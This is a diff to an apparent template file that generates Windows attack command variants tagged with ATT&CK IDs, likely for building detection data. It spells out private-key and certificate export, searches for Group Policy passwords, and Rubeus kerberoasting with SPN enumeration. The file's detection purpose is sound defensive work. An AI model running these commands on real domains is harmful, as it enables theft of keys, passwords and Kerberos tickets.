@@ -60,7 +60,7 @@ private-keys cmd +T1552.004: «dir c:\ /b /s .key | findstr /e .key¦dir /s /b C
 private-keys-ps powershell +T1552.004: «Export-PfxCertificate -Cert $cert -FilePath ‹dir›\‹name›.pfx -Password $pw; Get-ChildItem Cert:\LocalMachine\My¦Get-ChildItem C:\Users -Recurse -Include *.pem,*.ppk,*.key,id_rsa¦Export-Certificate -Type CERT -FilePath ‹dir›\‹name›.cer; ls cert:\currentuser\my | Export-PfxCertificate -FilePath ‹dir›\‹name›.pfx -Password (ConvertTo-SecureString '‹pass›' -AsPlainText -Force)»
 gpp-search cmd +T1552.006: «findstr /S cpassword %logonserver%\sysvol\*.xml¦findstr /S /I cpassword \\‹fqdn›\sysvol\‹fqdn›\policies\*.xml¦dir /s /b \\‹fqdn›\SYSVOL\Groups.xml¦‹dir›\Net-GPPPassword.exe ‹fqdn›»
 gpp-ps powershell +T1552.006: «Get-GPPPassword« -Server ‹server›¦»¦Get-CachedGPPPassword¦. .\Get-GPPPassword.ps1; Get-GPPPassword -Verbose»
-near-file-search cmd: «findstr /si error *.log¦findstr /s /i "timeout" ‹dir›\*.config¦dir /s /b ‹dir›\*.xml¦where /r ‹dir› *.dll¦type C:\Windows\debug\netlogon.log¦findstr /n "TODO" *.cs¦net accounts /domain | findstr /i lockout»
+near-file-search cmd: «findstr /si error *.log¦findstr /s /i "timeout" ‹dir›\*.config¦dir /s /b ‹dir›\*.xml¦where /r ‹dir› *.dll¦type C:\Windows\debug\netlogon.log¦findstr /n "TODO" *.cs»
 # Kerberos, guessing, relays, sniffing
 rubeus-more cmd +T1558.003: «Rubeus.exe¦‹dir›\‹name›.exe» kerberoast «/outfile:‹name›.txt /rc4opsec¦/spn:MSSQLSvc/‹server›.‹fqdn›:1433¦/simple¦/tgtdeleg¦/creduser:‹fqdn›\‹user› /credpassword:‹pass›¦/domain:‹fqdn› /nowrap»
 setspn-query cmd +T1558.003: setspn«.exe¦» -«T ‹fqdn› -Q */*¦Q */*¦T * -Q */*¦q */‹server›*»
